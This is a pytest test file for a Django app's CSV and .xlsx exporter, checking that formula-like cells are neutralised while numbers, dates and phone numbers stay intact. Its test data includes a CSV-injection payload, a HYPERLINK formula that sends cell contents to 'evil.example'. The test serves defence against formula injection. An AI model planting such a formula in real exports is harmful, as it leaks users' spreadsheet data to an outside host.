"""The one exporter: CSV and .xlsx, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from kehu.core.exports import csv_lines, export_response, neutralise, xlsx_file

HEADER = ["名称", "金额", "备注"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_gets_a_leading_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["张三", "a=b", " =1", "1-2", "'=already"])
def test_other_text_stays_as_it_is(text):
    assert neutralise(text) == text


def csv_rows(header, rows):
    text = "".join(csv_lines(header, rows))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_neutralises_formulas_and_keeps_numbers():
    rows = [[name, -5, Decimal("-1.50")] for name in FORMULAS]
    rows.append(["普通", -0.25, None])
    read = csv_rows(HEADER, rows)
    assert read[0] == HEADER
    assert [r[0] for r in read[1:-1]] == ["'" + f for f in FORMULAS]
    assert all(r[1:] == ["-5", "-1.50"] for r in read[1:-1])  # numbers, not quoted
    assert read[-1] == ["普通", "-0.25", ""]


def test_csv_writes_dates_and_local_times():
    moment = dt.datetime(2026, 11, 30, 2, 0, tzinfo=dt.UTC)  # 10:00 in Shanghai
    read = csv_rows(["日期", "时间"], [[dt.date(2026, 11, 30), moment]])
    assert read[1] == ["2026-11-30", timezone.localtime(moment).strftime("%Y-%m-%d %H:%M:%S")]


def test_xlsx_neutralises_formulas_and_keeps_numbers():
    rows = [[name, -5, Decimal("-1.50")] for name in FORMULAS]
    rows.append(["控制\x01字符", -0.25, None])
    sheet = load_workbook(xlsx_file(HEADER, rows, sheet="导出")).active
    assert sheet.title == "导出"
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == HEADER
    # (XML reads a carriage return back as a line feed)
    assert [v[0] for v in values[1:-1]] == ["'" + f.replace("\r", "\n") for f in FORMULAS]
    cells = list(sheet.iter_rows())
    assert all(row[0].data_type == "s" for row in cells[1:])  # text, never a formula
    assert all(v[1] == -5 and v[2] == -1.5 for v in values[1:-1])
    assert all(row[1].data_type == "n" and row[2].data_type == "n" for row in cells[1:])
    assert values[-1] == ("控制字符", -0.25, None)


def test_xlsx_takes_aware_times():
    moment = timezone.now()
    sheet = load_workbook(xlsx_file(["时间"], [[moment]])).active
    written = sheet.cell(row=2, column=1).value
    assert abs(written - timezone.make_naive(moment)) < dt.timedelta(milliseconds=1)


def test_response_in_both_formats():
    rows = [["=1+1", -3]]
    as_csv = export_response(filename="list-2026", header=["a", "b"], rows=iter(rows))
    assert as_csv["Content-Type"] == "text/csv; charset=utf-8"
    assert as_csv["Content-Disposition"] == 'attachment; filename="list-2026.csv"'
    assert b"".join(as_csv.streaming_content).decode() == "\ufeffa,b\r\n'=1+1,-3\r\n"
    as_xlsx = export_response(
        filename="list-2026", header=["a", "b"], rows=iter(rows), file_format="xlsx"
    )
    assert as_xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="list-2026.xlsx"' in as_xlsx["Content-Disposition"]
    book = load_workbook(io.BytesIO(b"".join(as_xlsx.streaming_content)))
    assert list(book.active.iter_rows(values_only=True)) == [("a", "b"), ("'=1+1", -3)]
    with pytest.raises(ValueError):
        export_response(filename="x", header=[], rows=[], file_format="pdf")


@pytest.mark.parametrize("text", ["+8613800000000", "-5", "+86 138 0000 0000"])
def test_a_signed_number_as_text_is_no_formula(text):
    """Phone numbers in E.164 stay usable, in every export (one rule for all)."""
    assert neutralise(text) == text
